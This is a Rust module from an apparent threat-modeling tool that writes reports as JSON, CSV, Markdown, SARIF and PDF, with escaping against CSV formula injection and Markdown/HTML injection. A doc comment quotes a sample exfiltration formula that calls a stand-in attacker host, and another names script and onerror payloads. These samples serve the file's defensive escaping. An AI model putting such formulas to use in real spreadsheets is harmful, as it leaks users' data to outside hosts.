//! Reports: the analysis as text for people and machines (table, JSON, CSV, Markdown,
//! SARIF). The PDF report joins these later.
//!
//! One file, over 800 lines: the text formats share the same ordering, escaping and
//! severity texts; the PDF and SVG are in their own modules.

pub mod pdf;
pub mod svg;
mod time;

pub use time::{days_from_civil, human_span, human_time, iso_from_secs, now_iso, today};

use serde::Serialize;
use serde_json::json;

use crate::analysis::{Analysis, Finding, Message};
use crate::model::{Category, Project, Severity, Status, WorkshopSession};

/// `S`, `T`, …, or the category text of a non-STRIDE manual threat.
pub fn category_code(c: &Category) -> String {
    match c {
        Category::Stride(s) => s.letter().to_string(),
        Category::Other(o) => o.clone(),
    }
}

#[derive(Serialize)]
struct JsonFinding<'a> {
    key: String,
    rule: &'a str,
    category: String,
    category_name: String,
    subject: &'a str,
    subject_kind: &'static str,
    subject_name: &'a str,
    diagram: &'a str,
    title: &'a str,
    description: String,
    severity: &'static str,
    computed_severity: &'static str,
    /// Why it has its computed severity.
    severity_reason: &'a str,
    /// A STRIDE checklist question rather than a specific threat.
    baseline: bool,
    /// The flows a connection's finding stands for.
    flows: Vec<&'a str>,
    status: &'static str,
    mitigation: &'a str,
    justification: &'a str,
    owner: &'a str,
    links: &'a [String],
    /// The decision's review date (YYYY-MM-DD), empty when it has none.
    review_by: &'a str,
    /// Past its review date today (`SOURCE_DATE_EPOCH` pins "today").
    due_for_review: bool,
    suggested_mitigations: Vec<String>,
    references: &'a [String],
    manual: bool,
}

fn json_finding<'a>(f: &'a Finding, today: &str) -> JsonFinding<'a> {
    JsonFinding {
        key: f.key.to_string(),
        rule: f.rule_id(),
        category: category_code(&f.category),
        category_name: f.category.to_string(),
        subject: f.subject(),
        subject_kind: f.subject_kind.snake(),
        subject_name: f.subject_name(),
        diagram: f.diagram_name(),
        title: &f.title,
        description: f.description(),
        severity: f.severity.label(),
        computed_severity: f.computed_severity.label(),
        severity_reason: &f.severity_reason,
        baseline: f.baseline,
        flows: f.flows.iter().map(|x| &**x).collect(),
        status: f.status().snake(),
        mitigation: &f.record.mitigation,
        justification: &f.record.justification,
        owner: &f.record.owner,
        links: &f.record.links,
        review_by: &f.record.review_by,
        due_for_review: f.record.due_for_review(today),
        suggested_mitigations: f.suggested_mitigations(),
        references: f.references(),
        manual: f.is_manual(),
    }
}

#[derive(Serialize)]
struct JsonOrphan<'a> {
    key: String,
    reason: crate::analysis::OrphanReason,
    title: &'a str,
    status: &'static str,
}

#[derive(Serialize)]
struct JsonDoc<'a> {
    project: &'a str,
    findings: Vec<JsonFinding<'a>>,
    validation: &'a [Message],
    out_of_scope: &'a [crate::analysis::OutOfScope],
    orphaned: Vec<JsonOrphan<'a>>,
    summary: &'a crate::analysis::Summary,
    /// How the rules differ from the built-in ones (empty when they do not).
    rule_changes: &'a [crate::analysis::RuleChange],
}

/// The analysis as a JSON document.
pub fn json(project: &Project, a: &Analysis) -> String {
    let doc = JsonDoc {
        project: &project.meta.title,
        findings: {
            let now = today();
            a.findings.iter().map(|f| json_finding(f, &now)).collect()
        },
        validation: &a.validation,
        out_of_scope: &a.out_of_scope,
        orphaned: a
            .orphaned
            .iter()
            .map(|o| JsonOrphan {
                key: o.key.to_string(),
                reason: o.reason,
                title: &o.title,
                status: o.record.status.snake(),
            })
            .collect(),
        summary: &a.summary,
        rule_changes: &a.rule_changes,
    };
    let mut s = serde_json::to_string_pretty(&doc).unwrap_or_default();
    s.push('\n');
    s
}

/// A cell a spreadsheet will not run: text starting with `=`, `+`, `-`, `@`, a tab or a
/// carriage return is a formula to Excel, LibreOffice and Google Sheets, so it gets a
/// leading apostrophe as OWASP recommends against CSV injection (CWE-1236). An element
/// named `=HYPERLINK("http://evil.example/?"&A1,"x")` is shown as written, not followed.
pub fn csv_cell(s: &str) -> std::borrow::Cow<'_, str> {
    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        std::borrow::Cow::Owned(format!("'{s}"))
    } else {
        std::borrow::Cow::Borrowed(s)
    }
}

/// A CSV writer whose every cell goes through [`csv_cell`]: the one way this program
/// writes CSV.
pub struct CsvWriter {
    inner: csv::Writer<Vec<u8>>,
}

impl CsvWriter {
    pub fn new() -> Self {
        Self {
            inner: csv::Writer::from_writer(Vec::new()),
        }
    }

    pub fn write_record<'a>(
        &mut self,
        cells: impl IntoIterator<Item = &'a str>,
    ) -> csv::Result<()> {
        self.inner
            .write_record(cells.into_iter().map(csv_cell).map(|c| c.into_owned()))
    }

    /// The text, with a byte-order mark so spreadsheet programs read it as UTF-8 (names
    /// such as "Zahlungsdienst Ärger" or "支付服务" would be garbled otherwise).
    pub fn finish(self) -> csv::Result<String> {
        let bytes = self.inner.into_inner().map_err(|e| e.into_error())?;
        Ok(format!("\u{feff}{}", String::from_utf8_lossy(&bytes)))
    }
}

impl Default for CsvWriter {
    fn default() -> Self {
        Self::new()
    }
}

/// One row per finding; UTF-8 with a byte-order mark, RFC 4180 quoting, formulas
/// neutralised.
pub fn csv(a: &Analysis) -> Result<String, csv::Error> {
    let mut w = CsvWriter::new();
    w.write_record([
        "key",
        "rule",
        "category",
        "subject",
        "subject_kind",
        "subject_name",
        "diagram",
        "title",
        "severity",
        "status",
        "mitigation",
        "justification",
        "owner",
        "description",
        "suggested_mitigations",
        "references",
        "links",
        "severity_reason",
        "baseline",
        "flows",
        "decided_by",
        "decided_at",
        "review_by",
        "due_for_review",
        "residual_risk",
    ])?;
    // The residual-risk register as a column: filter on it to get what a signer signs.
    let register: std::collections::HashSet<&crate::model::ThreatKey> =
        residual_register(a).into_iter().map(|f| &f.key).collect();
    let now = today();
    for f in &a.findings {
        w.write_record([
            f.key.to_string().as_str(),
            f.rule_id(),
            &category_code(&f.category),
            f.subject(),
            f.subject_kind.snake(),
            f.subject_name(),
            f.diagram_name(),
            &f.title,
            f.severity.label(),
            f.status().snake(),
            &f.record.mitigation,
            &f.record.justification,
            &f.record.owner,
            &f.description(),
            &f.suggested_mitigations().join("\n"),
            &f.references().join(" "),
            &f.record.links.join(" "),
            &f.severity_reason,
            if f.baseline { "true" } else { "false" },
            &f.flows.join(" "),
            &f.record.decided_by,
            &f.record.decided_at,
            &f.record.review_by,
            if f.record.due_for_review(&now) {
                "true"
            } else {
                "false"
            },
            if register.contains(&f.key) {
                "true"
            } else {
                "false"
            },
        ])?;
    }
    w.finish()
}

/// User text made inert for Markdown (GitHub, GitLab, wikis): HTML characters become
/// entities, so `<script>` or `<img onerror=…>` is shown, never run; Markdown's own
/// inline syntax (emphasis, code, links and images, tables, strike-through) is
/// backslash-escaped; line breaks become `<br>` so a cell or list item stays one line.
pub fn md_cell(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 8);
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '\r' if chars.peek() == Some(&'\n') => {}
            '\r' | '\n' => out.push_str("<br>"),
            '\\' | '`' | '*' | '_' | '[' | ']' | '|' | '~' | '#' | '!' => {
                out.push('\\');
                out.push(c);
            }
            c => out.push(c),
        }
    }
    out
}

/// Multi-line user text (workshop notes) made inert like [`md_cell`], keeping its lines
/// as separate lines; a line that would start a block (`- `, `+ `, `1. `, `>`) is escaped.
pub fn md_block(s: &str) -> String {
    s.lines()
        .map(|line| {
            let cell = md_cell(line);
            let starts_block = cell.starts_with(['-', '+', '='])
                || cell.starts_with("&gt;")
                || cell
                    .split_once(['.', ')'])
                    .is_some_and(|(n, _)| !n.is_empty() && n.chars().all(|c| c.is_ascii_digit()));
            if starts_block {
                format!("\\{cell}")
            } else {
                cell
            }
        })
        .collect::<Vec<_>>()
        .join("  \n")
}

/// A Markdown table of threats per diagram, for a wiki page or a pull request.
pub fn markdown(project: &Project, a: &Analysis) -> String {
    use std::fmt::Write;
    let mut s = String::new();
    let _ = writeln!(s, "# Threats: {}\n", md_cell(&project.meta.title));
    let sum = &a.summary;
    let _ = writeln!(
        s,
        "{}, {} open ({} critical, {} high open). {}, {}.\n",
        crate::edit::count(sum.total, "threat", "threats"),
        sum.open,
        sum.open_of(Severity::Critical),
        sum.open_of(Severity::High),
        crate::edit::count(sum.errors, "validation error", "validation errors"),
        crate::edit::count(sum.warnings, "warning", "warnings")
    );
    if let Some(changes) = a.rule_changes_text() {
        let _ = writeln!(s, "## Rule changes\n\n**{}**\n", md_cell(&changes));
    }
    // What a signer signs, first: open high/critical threats and accepted/transferred ones.
    let register = residual_register(a);
    let _ = writeln!(s, "## Residual risk\n");
    if register.is_empty() {
        let _ = writeln!(
            s,
            "No open high or critical threat; nothing accepted or transferred.\n"
        );
    } else {
        let now = today();
        let _ = writeln!(
            s,
            "| Severity | Status | Subject | Threat | Justification / mitigation | Owner | Decided | Review by |"
        );
        let _ = writeln!(s, "|---|---|---|---|---|---|---|---|");
        for f in &register {
            let r = &f.record;
            let text = if r.justification.is_empty() {
                &r.mitigation
            } else {
                &r.justification
            };
            let decided = match (r.decided_by.is_empty(), r.decided_at.is_empty()) {
                (true, true) => String::new(),
                _ => format!("{} {}", r.decided_by, r.decided_at.get(..10).unwrap_or("")),
            };
            let review = if r.due_for_review(&now) {
                format!("**{} (due)**", md_cell(&r.review_by))
            } else {
                md_cell(&r.review_by)
            };
            let _ = writeln!(
                s,
                "| {} | {} | {} | {} | {} | {} | {} | {} |",
                f.severity.label(),
                f.status().label(),
                md_cell(f.subject_name()),
                md_cell(&f.title),
                md_cell(text),
                md_cell(&r.owner),
                md_cell(decided.trim()),
                review
            );
        }
        let _ = writeln!(s);
    }
    for d in &project.diagrams {
        let rows = ranked_threats(a, d.id.as_str());
        let _ = writeln!(s, "## {}\n", md_cell(&d.name));
        if rows.is_empty() {
            let _ = writeln!(s, "No threats.\n");
        } else {
            let _ = writeln!(
                s,
                "| Severity | Status | STRIDE | Subject | Threat | Why this severity | Mitigation | Key |"
            );
            let _ = writeln!(s, "|---|---|---|---|---|---|---|---|");
            for f in rows {
                let _ = writeln!(
                    s,
                    "| {} | {} | {} | {} | {} | {} | {} | `{}` |",
                    f.severity.label(),
                    f.status().label(),
                    md_cell(&category_code(&f.category)),
                    md_cell(f.subject_name()),
                    md_cell(&f.title),
                    md_cell(reason_only(&f.severity_reason)),
                    md_cell(&f.record.mitigation),
                    f.key
                );
            }
            let _ = writeln!(s);
        }
        let checklist = checklist_by_subject(a, d.id.as_str());
        if !checklist.is_empty() {
            let _ = writeln!(
                s,
                "### STRIDE checklist\n\nQuestions to ask where no specific threat was found (`analyze --format json` has their text).\n"
            );
            let _ = writeln!(s, "| Subject | Open questions |");
            let _ = writeln!(s, "|---|---|");
            for (name, letters) in checklist {
                let _ = writeln!(s, "| {} | {} |", md_cell(name), letters);
            }
            let _ = writeln!(s);
        }
    }
    if !a.validation.is_empty() {
        let _ = writeln!(s, "## Validation\n");
        for m in &a.validation {
            let _ = writeln!(
                s,
                "- **{}** `{}`: {}",
                m.level.label(),
                m.code,
                md_cell(&m.message)
            );
        }
    }
    s
}

/// The threats of one diagram (no checklist questions), most severe first, otherwise in
/// the analysis' order.
pub fn ranked_threats<'a>(a: &'a Analysis, diagram: &str) -> Vec<&'a Finding> {
    let mut rows: Vec<&Finding> = a.threats().filter(|f| *f.diagram == *diagram).collect();
    rows.sort_by_key(|f| std::cmp::Reverse(f.severity));
    rows
}

/// The open checklist questions of one diagram, per subject: (subject name, "S T R").
pub fn checklist_by_subject<'a>(a: &'a Analysis, diagram: &str) -> Vec<(&'a str, String)> {
    let mut out: Vec<(&str, String)> = Vec::new();
    let mut last: Option<&str> = None;
    for f in a
        .checklist()
        .filter(|f| *f.diagram == *diagram && f.status().is_open())
    {
        let letter = category_code(&f.category);
        if last == Some(f.subject()) {
            if let Some((_, letters)) = out.last_mut() {
                letters.push(' ');
                letters.push_str(&letter);
            }
        } else {
            out.push((f.subject_name(), letter));
            last = Some(f.subject());
        }
    }
    out
}

/// "High: card data; reachable from the internet" → "card data; reachable from the internet".
pub fn reason_only(reason: &str) -> &str {
    reason.split_once(": ").map_or(reason, |(_, r)| r)
}

fn truncate(s: &str, width: usize) -> String {
    let s = s.replace('\n', " ");
    if s.chars().count() <= width {
        s
    } else {
        let mut t: String = s.chars().take(width.saturating_sub(1)).collect();
        t.push('…');
        t
    }
}

/// A plain table for a terminal.
pub fn table(project: &Project, a: &Analysis) -> String {
    use std::fmt::Write;
    let mut s = String::new();
    let _ = writeln!(s, "{}", project.meta.title);
    let _ = writeln!(
        s,
        "{:<8} {:<19} {:<3} {:<28} TITLE",
        "SEVERITY", "STATUS", "CAT", "SUBJECT"
    );
    for d in &project.diagrams {
        for f in ranked_threats(a, d.id.as_str()) {
            let _ = writeln!(
                s,
                "{:<8} {:<19} {:<3} {:<28} {}",
                f.severity.label(),
                f.status().snake(),
                truncate(&category_code(&f.category), 3),
                truncate(f.subject_name(), 28),
                f.title.replace('\n', " ")
            );
        }
    }
    let checklist: Vec<(&str, String)> = project
        .diagrams
        .iter()
        .flat_map(|d| checklist_by_subject(a, d.id.as_str()))
        .collect();
    if !checklist.is_empty() {
        let _ = writeln!(
            s,
            "\nSTRIDE checklist ({} open questions where nothing specific was found):",
            a.summary.checklist_open
        );
        for (name, letters) in &checklist {
            let _ = writeln!(s, "  {:<28} {letters}", truncate(name, 28));
        }
    }
    if !a.validation.is_empty() {
        let _ = writeln!(s, "\nValidation:");
        for m in &a.validation {
            let _ = writeln!(s, "{:<8} {:<28} {}", m.level.label(), m.code, m.message);
        }
    }
    if !a.out_of_scope.is_empty() {
        let _ = writeln!(s, "\nOut of scope:");
        for o in &a.out_of_scope {
            let _ = writeln!(s, "{}: {}", o.name, o.reason);
        }
    }
    if let Some(changes) = a.rule_changes_text() {
        let _ = writeln!(s, "\nRule changes: {changes}");
    }
    let sum = &a.summary;
    let _ = writeln!(
        s,
        "\n{} threats, {} open ({} critical, {} high, {} medium, {} low open); {} checklist questions open; {} validation errors, {} warnings",
        sum.total,
        sum.open,
        sum.open_of(Severity::Critical),
        sum.open_of(Severity::High),
        sum.open_of(Severity::Medium),
        sum.open_of(Severity::Low),
        sum.checklist_open,
        sum.errors,
        sum.warnings
    );
    s
}

fn sarif_level(f: &Finding) -> &'static str {
    if f.baseline {
        return "note";
    }
    match f.severity {
        crate::model::Severity::Critical | crate::model::Severity::High => "error",
        crate::model::Severity::Medium => "warning",
        crate::model::Severity::Low => "note",
    }
}

/// GitHub-style security severity score for a level.
fn security_severity(s: crate::model::Severity) -> &'static str {
    match s {
        crate::model::Severity::Critical => "9.5",
        crate::model::Severity::High => "8.0",
        crate::model::Severity::Medium => "5.5",
        crate::model::Severity::Low => "2.0",
    }
}

/// 1-based line of the definition (`id: "…"`) of every id in the project's text, for
/// SARIF locations; one pass over the text.
fn definition_lines(text: &str) -> std::collections::HashMap<&str, usize> {
    text.lines()
        .enumerate()
        .filter_map(|(i, line)| {
            let rest = line.trim_start().strip_prefix("id: \"")?;
            let id = &rest[..rest.find('"')?];
            Some((id, i + 1))
        })
        .collect()
}

/// SARIF 2.1.0, so code-scanning dashboards can list open threats. Decided threats are
/// reported as suppressed, with the justification.
pub fn sarif(project: &Project, a: &Analysis, uri: &str, text: &str, version: &str) -> String {
    let lines = definition_lines(text);
    let mut rules: Vec<serde_json::Value> = Vec::new();
    let mut rule_index: std::collections::HashMap<String, usize> = std::collections::HashMap::new();
    for f in &a.findings {
        let id = f.rule_id().to_owned();
        if rule_index.contains_key(&id) {
            continue;
        }
        rule_index.insert(id.clone(), rules.len());
        let (name, help) = match &f.rule {
            Some(r) => (r.title.render(|_| "…"), r.description.render(|_| "…")),
            None => (
                "Manual threat".to_owned(),
                "A threat added by the team.".to_owned(),
            ),
        };
        let mut tags = vec![
            "security".to_owned(),
            "threat-model".to_owned(),
            f.category.to_string(),
        ];
        tags.extend(f.references().iter().cloned());
        rules.push(json!({
            "id": id,
            "name": id,
            "shortDescription": { "text": name },
            "fullDescription": { "text": help },
            "help": { "text": help },
            "properties": {
                "tags": tags,
                "security-severity": security_severity(f.rule.as_ref().map_or(f.severity, |r| r.severity)),
            },
        }));
    }
    let results: Vec<serde_json::Value> = a
        .findings
        .iter()
        .map(|f| {
            let mut result = json!({
                "ruleId": f.rule_id(),
                "ruleIndex": rule_index.get(f.rule_id()).copied().unwrap_or(0),
                "level": sarif_level(f),
                "message": { "text": format!("{} [{}] on {}: {}", f.title, f.severity_reason, f.subject_name(), f.description()) },
                "locations": [{
                    "physicalLocation": {
                        "artifactLocation": { "uri": uri },
                        "region": { "startLine": lines.get(f.subject()).copied().unwrap_or(1) },
                    },
                    "logicalLocations": [{
                        "name": f.subject_name(),
                        "fullyQualifiedName": format!("{}/{}", f.diagram_name(), f.subject_name()),
                        "kind": f.subject_kind.snake(),
                    }],
                }],
                "partialFingerprints": { "threatKey/v1": f.key.to_string() },
                "properties": {
                    "status": f.status().snake(),
                    "severity": f.severity.label(),
                    "severityReason": f.severity_reason,
                    "checklist": f.baseline,
                    "flows": f.flows,
                    "threatKey": f.key.to_string(),
                },
            });
            if !f.status().is_open() {
                result["suppressions"] = json!([{
                    "kind": "external",
                    "status": "accepted",
                    "justification": format!("{}: {}", f.status().label(), if f.record.justification.is_empty() { &f.record.mitigation } else { &f.record.justification }),
                }]);
            }
            result
        })
        .collect();
    let doc = json!({
        "$schema": "https://docs.oasis-open.org/sarif/sarif/v2.1.0/errata01/os/schemas/sarif-schema-2.1.0.json",
        "version": "2.1.0",
        "runs": [{
            "tool": { "driver": {
                "name": "Threatboard",
                "version": version,
                "rules": rules,
            }},
            "automationDetails": { "id": format!("threatboard/{}", project.meta.title) },
            "results": results,
            "properties": {
                "ruleChanges": a.rule_changes,
                "ruleChangesSummary": a.rule_changes_text(),
            },
        }],
    });
    let mut s = serde_json::to_string_pretty(&doc).unwrap_or_default();
    s.push('\n');
    s
}

/// A validation message as one line: `error missing-justification SUBJECT: message`.
pub fn message_line(m: &Message) -> String {
    format!(
        "{} {} {}: {}",
        m.level.label(),
        m.code,
        m.subject,
        m.message
    )
}

/// The residual risk a signer signs: every open high or critical threat (highest first),
/// then every accepted or transferred one. The STRIDE checklist is not in it.
pub fn residual_register(a: &Analysis) -> Vec<&Finding> {
    let mut v: Vec<&Finding> = a
        .threats()
        .filter(|f| {
            (f.status().is_open() && f.severity >= Severity::High)
                || matches!(
                    f.status(),
                    crate::model::Status::Accepted | crate::model::Status::Transferred
                )
        })
        .collect();
    v.sort_by_key(|f| (!f.status().is_open(), std::cmp::Reverse(f.severity)));
    v
}

/// How much of the per-element listing the PDF's appendix carries.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Appendix {
    /// Every threat of every element.
    Full,
    /// Open threats only (the decided ones are in the register or need no signature).
    Open,
    /// No per-element listing.
    None,
}

impl Appendix {
    /// The default: the full listing for models of up to 300 threats, open ones beyond.
    pub fn default_for(a: &Analysis) -> Self {
        if a.threats().count() > 300 {
            Appendix::Open
        } else {
            Appendix::Full
        }
    }
}

/// SHA-256 of a file's bytes, as lower-case hex.
pub fn sha256_hex(bytes: &[u8]) -> String {
    use sha2::{Digest, Sha256};
    Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// The PDF report of a project: the cover names the model by its hash and its latest
/// sign-off; when the model changed since that sign-off, a "Changes since" section (the
/// signed snapshot analysed with the same `catalogue`) comes first.
pub fn pdf_for_file(
    project: &Project,
    analysis: &Analysis,
    catalogue: &crate::analysis::Catalogue,
    file_name: &str,
    include_mitigated: bool,
    include_inventory: bool,
    appendix: Option<Appendix>,
) -> Result<Vec<u8>, pdf::PdfError> {
    pdf_with_verification(
        project,
        analysis,
        catalogue,
        file_name,
        include_mitigated,
        include_inventory,
        appendix,
        None,
        None,
    )
}

/// [`pdf_for_file`] with a "Verification" section: the controls named on the mitigations
/// against the pipeline's evidence (`report --evidence`), and the sign-offs' signatures
/// checked against an allowed_signers file (`report --allowed-signers`).
#[allow(clippy::too_many_arguments)]
pub fn pdf_with_verification(
    project: &Project,
    analysis: &Analysis,
    catalogue: &crate::analysis::Catalogue,
    file_name: &str,
    include_mitigated: bool,
    include_inventory: bool,
    appendix: Option<Appendix>,
    verification: Option<&crate::evidence::Verification>,
    allowed_signers: Option<&crate::history::allowed_signers::AllowedSigners>,
) -> Result<Vec<u8>, pdf::PdfError> {
    let signatures = crate::history::signing::check_all(project, allowed_signers);
    let last = crate::history::last_signoff(project).cloned();
    let model_sha256 = crate::history::model_hash(project);
    let hash_changed = last
        .as_ref()
        .is_some_and(|s| s.model_sha256 != model_sha256);
    // A record whose signature fails cannot vouch for "unchanged".
    let invalid = matches!(
        signatures.last(),
        Some(crate::history::signing::SignatureCheck::Invalid { .. })
    );
    let changed = last.as_ref().map(|_| hash_changed || invalid);
    // "Changes since" needs a real change of the model and, on a signed record, a copy of
    // the signed model that is the one its hash names.
    let snapshot = crate::history::signed_snapshot(project).filter(|snap| {
        last.as_ref().is_none_or(|s| {
            s.signature.is_empty() || crate::history::model_hash(snap) == s.model_sha256
        })
    });
    let since = match (hash_changed, snapshot) {
        (true, Some(snapshot)) => {
            let before = crate::analysis::analyze(snapshot, catalogue);
            last.clone().map(|signed| {
                let diff = crate::history::diff::diff(snapshot, project, &before, analysis);
                let marks = crate::history::diff::marks(&diff, snapshot, 0);
                pdf::SinceSignOff {
                    signed,
                    diff,
                    marks,
                }
            })
        }
        _ => None,
    };
    let options = pdf::PdfOptions {
        include_mitigated,
        include_inventory,
        source_name: file_name.to_owned(),
        model_sha256,
        changed_since_signoff: changed == Some(true),
        signatures,
        signed: last,
        since,
        date: pdf::report_date(project),
        appendix: appendix.unwrap_or_else(|| Appendix::default_for(analysis)),
        today: today(),
        verification: verification.cloned(),
    };
    pdf::render(project, analysis, &options)
}

/// Decisions recorded in a workshop session: (threat title, subject, status, text, when).
pub fn session_decisions<'a>(
    project: &Project,
    analysis: &'a Analysis,
    session: &WorkshopSession,
) -> Vec<&'a Finding> {
    let _ = project;
    analysis
        .findings
        .iter()
        .filter(|f| {
            !f.record.decided_at.is_empty()
                && f.record.decided_at >= session.started
                && (session.ended.is_empty() || f.record.decided_at <= session.ended)
        })
        .collect()
}

/// A workshop's summary as Markdown, for the meeting notes.
pub fn session_markdown(
    project: &Project,
    analysis: &Analysis,
    session: &WorkshopSession,
) -> String {
    use std::fmt::Write;
    let mut s = String::new();
    let _ = writeln!(
        s,
        "# Threat modeling workshop: {}\n",
        md_cell(&project.meta.title)
    );
    let _ = writeln!(
        s,
        "- When: {}",
        human_span(&session.started, &session.ended)
    );
    let _ = writeln!(s, "- Facilitator: {}", md_cell(&session.facilitator));
    let _ = writeln!(
        s,
        "- Participants: {}\n",
        md_cell(&session.participants.join(", "))
    );
    let decided = session_decisions(project, analysis, session);
    let _ = writeln!(s, "## Decisions ({})\n", decided.len());
    if decided.is_empty() {
        let _ = writeln!(s, "None.\n");
    } else {
        let _ = writeln!(
            s,
            "| Threat | Element | Decision | Mitigation / justification | Owner |"
        );
        let _ = writeln!(s, "|---|---|---|---|---|");
        for f in &decided {
            let text = if f.record.justification.is_empty() {
                &f.record.mitigation
            } else {
                &f.record.justification
            };
            let _ = writeln!(
                s,
                "| {} | {} | {} | {} | {} |",
                md_cell(&f.title),
                md_cell(f.subject_name()),
                f.status().label(),
                md_cell(text),
                md_cell(&f.record.owner)
            );
        }
        let _ = writeln!(s);
    }
    let open: Vec<&Finding> = analysis
        .findings
        .iter()
        .filter(|f| f.status().is_open())
        .collect();
    let high = open.iter().filter(|f| f.severity >= Severity::High).count();
    let _ = writeln!(
        s,
        "## Still open\n\n{} threats are still open ({} high or critical).\n",
        open.len(),
        high
    );
    let actions: Vec<&Finding> = analysis
        .findings
        .iter()
        .filter(|f| {
            !f.record.owner.is_empty()
                && matches!(
                    f.status(),
                    Status::Open | Status::NeedsInvestigation | Status::Mitigated
                )
                && !f.record.mitigation.is_empty()
        })
        .collect();
    let _ = writeln!(s, "## Actions ({})\n", actions.len());
    for f in actions {
        let _ = writeln!(
            s,
            "- [{}] {} — {} (owner: {})",
            if f.status() == Status::Mitigated {
                "x"
            } else {
                " "
            },
            md_cell(&f.title),
            md_cell(&f.record.mitigation),
            md_cell(&f.record.owner)
        );
    }
    if !session.notes.is_empty() {
        let _ = writeln!(s, "\n## Notes\n\n{}", md_block(&session.notes));
    }
    s
}
